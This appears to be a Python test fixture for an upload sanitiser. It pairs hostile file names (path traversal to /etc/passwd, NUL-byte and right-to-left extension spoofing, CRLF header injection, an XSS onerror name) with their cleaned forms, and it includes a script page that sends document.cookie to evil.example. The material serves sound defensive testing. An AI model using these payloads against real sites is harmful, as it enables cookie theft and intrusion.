"""A corpus of files as attackers, careless programs and broken connections send them, built here, none of it stored.

`hostile_pdfs` and `hostile_images` hold the samples; here is what they share, and what is judged on arrival: file names
and beginnings.
"""

from collections.abc import Callable
from dataclasses import dataclass

PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"
SCRIPT_PAGE = b"<html><script>location='//evil.example/'+document.cookie</script></html>"


@dataclass(frozen=True)
class Sample:
    """One file: what it is, what it claims to be, its bytes, and its outcome.

    An outcome is a code of `inspection.FOUND_INSIDE`, or "clean".
    """

    name: str
    media_type: str
    build: Callable[[], bytes]
    outcome: str


SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
EXE = b"MZ\x90\x00" + bytes(200)

HOSTILE_NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\windows\\win.pdf": "win.pdf",
    "C:\\fakepath\\สัญญาเช่า.pdf": "สัญญาเช่า.pdf",
    "/etc/cron.d/x.pdf": "x.pdf",
    "．．／．．／x．pdf": "x.pdf",
    "lease.pdf\x00.exe": "lease.pdf.exe",
    "photo\u202egpj.exe": "photogpj.exe",
    "lease\u200b\u2066.pdf\u2069": "lease.pdf",
    "lease.pdf.": "lease.pdf",
    "lease.pdf ...  ": "lease.pdf",
    "lease.pdf::$DATA": "lease.pdf$DATA",
    "<img src=x onerror=alert(1)>.png": "img src=x onerror=alert(1).png",
    'a".pdf\r\nSet-Cookie: x=1': "a.pdf Set-Cookie x=1",
    "CON.pdf": "ไฟล์CON.pdf",
    "nul": "ไฟล์nul",
    ".htaccess": "ไฟล์.htaccess",
    ".pdf": "ไฟล์.pdf",
    "": "ไฟล์",
    "....//": "ไฟล์",
    "%2e%2e%2fx.pdf": "2e2e2fx.pdf",
    "ก" * 400 + ".pdf": "ก" * 58 + ".pdf",
    "x." + "a" * 400: "x." + "a" * 178,
    "น\u0e4d\u0e49\u0e32.JPG": "น้ำ.JPG",
}
"""What the browser sent → what people read."""
